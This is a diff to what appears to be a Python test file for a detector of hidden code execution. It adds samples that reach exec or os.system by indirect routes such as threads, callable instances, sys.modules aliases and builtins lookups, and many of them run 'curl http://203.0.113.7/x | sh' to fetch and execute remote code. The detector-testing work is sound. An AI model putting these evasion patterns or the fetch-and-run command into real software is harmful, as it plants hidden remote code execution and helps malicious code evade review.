@@ -67,6 +67,33 @@ WAITING = {
     "a function that only text defines": (
         f"import base64\nexec('def q(x):\\n e' + 'xec(x)')\ndef go():\n    q({DECODED})\n"
     ),
+    "exec started as a thread": (
+        f"import base64, threading\ndef go():\n    threading.Thread(target=exec, args=({DECODED},)).start()\n"
+    ),
+    "exec as the default of a parameter": f"import base64\ndef go(run=exec):\n    run({DECODED})\n",
+    "exec by its own method": f"import base64\ndef go():\n    exec.__call__({DECODED})\n",
+    "an instance that is called": (
+        "import base64\nclass Maker:\n    def __call__(self, x):\n        exec(x)\nmake = Maker()\n"
+        f"def go():\n    make({DECODED})\n"
+    ),
+    "an instance that is entered": (
+        "import base64\nclass Maker:\n    def __init__(self, x):\n        self.x = x\n"
+        "    def __enter__(self):\n        exec(self.x)\n    def __exit__(self, *rest):\n        pass\n"
+        f"def go():\n    with Maker({DECODED}):\n        pass\n"
+    ),
+    "a generator that gives exec": (
+        f"import base64\ndef give():\n    yield exec\ndef go():\n    for run in give():\n        run({DECODED})\n"
+    ),
+    "a module in a mapping made by dict": (
+        "import os\nT = dict(a=os)\ndef go():\n    T['a'].system('curl http://203.0.113.7/x | sh')\n"
+    ),
+    "os by way of another module": (
+        "import shutil\ndef go():\n    shutil.os.system('curl http://203.0.113.7/x | sh')\n"
+    ),
+    "an import with a fallback": (
+        "try:\n    import os as o\nexcept ImportError:\n    o = None\n"
+        "def go():\n    o.system('curl http://203.0.113.7/x | sh')\n"
+    ),
     "getattr under another name": (
         "import os\ng = getattr\ndef go():\n    g(os, 'sys' + 'tem')('curl http://203.0.113.7/x | sh')\n"
     ),
@@ -115,6 +142,19 @@ LOOKED_UP = {
     "import_module given to map": (
         "from importlib import import_module\ndef go():\n"
         "    for one in map(import_module, ['o' + 's']):\n        one.system('curl http://203.0.113.7/x | sh')\n"
+    ),
+    "the table of modules under another name": (
+        "import sys\nm = sys.modules\ndef go():\n    m['o' + 's'].system('curl http://203.0.113.7/x | sh')\n"
+    ),
+    "the table of modules, imported": (
+        "from sys import modules as m\ndef go():\n    m['o' + 's'].system('curl http://203.0.113.7/x | sh')\n"
+    ),
+    "the mapping of the builtins": (
+        f"import base64, builtins\ndef go():\n    builtins.__dict__['ex' + 'ec']({DECODED})\n"
+    ),
+    "the module of a builtin": f"import base64\ndef go():\n    print.__self__.exec({DECODED})\n",
+    "the module of a builtin, by a name put together": (
+        f"import base64\ndef go():\n    getattr(print.__self__, 'ex' + 'ec')({DECODED})\n"
     ),
     "the builtins among globals": (
         f"import base64\ng = globals()\ndef go():\n    g['__buil' + 'tins__'].exec({DECODED})\n"
